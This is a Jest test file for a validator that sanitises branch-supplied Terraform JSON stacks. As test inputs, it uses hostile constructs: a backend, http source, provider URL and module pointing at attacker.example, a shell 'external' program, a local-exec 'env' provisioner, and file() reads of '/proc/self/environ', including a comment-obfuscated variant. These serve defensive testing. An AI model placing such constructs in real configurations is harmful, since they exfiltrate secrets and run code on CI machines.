/** `stack-check.mjs`: what a branch hands over is data, or it is refused. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runProgram } from './program';

jest.setTimeout(60_000);

const scratch = mkdtempSync(join(tmpdir(), 'stack-'));
const file = join(scratch, 'stack.json');
afterAll(() => rmSync(scratch, { recursive: true }));

const check = (stack: object) => {
  writeFileSync(file, JSON.stringify(stack));
  return runProgram('stack-check.mjs', [file]);
};
const group = (attributes: object) => ({ resource: { platform_group: { a: attributes } } });

test('resources, data sources and references pass unchanged; backend, providers and versions are those of the main branch', async () => {
  const kept = {
    '//': { metadata: { stackName: 'organization' } },
    ...group({ name: 'a', parent_uid: '${platform_group.b.uid}', description: 'Keeps the file (all of it).' }),
    data: { platform_role: { viewer: { name: 'viewer' } } },
    output: { uid: { value: '${platform_group.a.uid}' } },
  };
  const { code, stdout, stderr } = await check({
    ...kept,
    provider: { platform: [{}] },
    terraform: {
      backend: { http: { address: 'https://attacker.example' } },
      required_providers: { platform: { source: 'attacker.example/x/platform' } },
    },
  });
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  expect(JSON.parse(stdout)).toEqual({ ...kept, provider: { platform: {} } });
});

test.each([
  ['a program at the plan', { data: { external: { x: { program: ['sh'] } } } }, 'external belongs to another provider'],
  ['a program at the apply', { resource: { terraform_data: { x: {} } } }, 'terraform_data belongs to another provider'],
  ['a request to anywhere', { data: [{ http: { x: { url: 'https://attacker.example' } } }] }, 'http belongs to'],
  ['the state of others', { data: { terraform_remote_state: { x: {} } } }, 'terraform_remote_state belongs to'],
  ['a provisioner', group({ provisioner: [{ 'local-exec': { command: 'env' } }] }), 'a.provisioner runs a program'],
  ['a provisioner of what goes', { removed: [{ provisioner: { 'local-exec': {} } }] }, '0.provisioner runs a program'],
  ['a module', { module: { x: { source: 'git::https://attacker.example' } } }, 'module is not allowed in a stack'],
  ['a token', { ephemeral: { platform_token: { x: {} } } }, 'ephemeral is not allowed in a stack'],
  ['where tokens go', { provider: { platform: [{ base_url: 'https://attacker.example' }] } }, 'platform is configured'],
  ['another provider', { provider: { aws: {} } }, 'the provider aws is configured'],
  ['a file of the machine', group({ description: '${file("/proc/self/environ")}' }), 'mentions the function file'],
  ['a file, with a comment between', group({ description: '${file/**/("/x")}' }), 'mentions the function file'],
  ['a file as base64', group({ description: '${filebase64("/x")}' }), 'mentions the function filebase64'],
  ['a template of a file', group({ description: '%{if true}${templatefile("/x", {})}%{endif}' }), 'templatefile'],
  ['a file in a key', group({ '${file("/x")}': 'a' }), 'mentions the function file'],
  ['a file in a list', { locals: { a: [{ b: ['x', '${fileset("/", "*")}'] }] } }, 'mentions the function fileset'],
])('%s is refused', async (_what, stack, why) => {
  const { code, stdout, stderr } = await check(stack);
  expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
  expect(stderr).toContain(why);
});

test('what is no JSON is refused', async () => {
  writeFileSync(file, '{');
  expect(await runProgram('stack-check.mjs', [file])).toMatchObject({ code: 1, stdout: '' });
});
